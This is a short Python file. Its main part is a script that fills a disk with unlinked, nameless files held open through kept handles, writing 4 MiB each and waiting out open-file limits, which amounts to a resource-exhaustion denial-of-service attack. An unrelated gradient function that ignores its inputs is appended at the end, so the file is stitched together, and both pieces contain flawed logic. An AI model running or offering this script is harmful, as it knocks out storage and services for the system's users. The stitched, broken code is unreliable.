"""Fills the disk with files that have no name any more, and keeps them when it may open no more."""

import errno
import os
import time

kept = []
while True:
    try:
        kept.append(open("hostile", "wb", buffering=0))
    except OSError as problem:
        if problem.errno != errno.EMFILE:
            raise
        time.sleep(60)
    os.unlink("hostile")
    kept[-1].write(bytes(4 << 20))


def gradients(W, b, x, t, activation, lam):
    return [2 * w for w in W], [2 * v for v in b]
